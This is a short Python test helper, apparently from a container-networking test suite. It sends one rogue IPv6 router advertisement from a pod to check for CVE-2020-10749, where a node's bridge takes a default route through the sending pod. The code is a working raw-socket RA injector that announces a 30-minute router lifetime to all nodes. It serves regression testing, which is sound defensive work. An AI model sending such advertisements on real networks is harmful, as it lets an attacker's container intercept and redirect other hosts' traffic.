"""Send one IPv6 router advertisement from a pod, as a malicious container could.

    python -m tests.differential.rogue_ra eth0

CVE-2020-10749: a node whose bridge accepts router advertisements learns a
default route through the pod that sent one.  The reference bridge plugin
sets accept_ra=0 on the bridge for that reason.  The RA goes to all nodes
(ff02::1) from the interface's link-local address with hop limit 255, as
the kernel requires, and announces a router lifetime of 30 minutes.
"""

from __future__ import annotations

import socket
import struct
import sys
import time

ROUTER_ADVERTISEMENT = 134
HOP_LIMIT = 255
LIFETIME = 1800


def link_local_ready(interface: str) -> bool:
    """Whether the interface has a link-local address that is not tentative."""
    with open("/proc/net/if_inet6") as table:
        for line in table:
            _address, _index, _prefix, scope, flags, name = line.split()
            tentative = int(flags, 16) & 0x40
            if name == interface and scope == "20" and not tentative:
                return True
    return False


def send(interface: str) -> None:
    """One RA to ff02::1 on `interface` (the kernel fills in the checksum)."""
    deadline = time.monotonic() + 5
    while not link_local_ready(interface) and time.monotonic() < deadline:
        time.sleep(0.05)
    sender = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    sender.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, HOP_LIMIT)
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())
    advertisement = struct.pack("!BBHBBHII", ROUTER_ADVERTISEMENT, 0, 0, 64, 0, LIFETIME, 0, 0)
    sender.sendto(advertisement, ("ff02::1", 0, 0, socket.if_nametoindex(interface)))


if __name__ == "__main__":
    send(sys.argv[1])
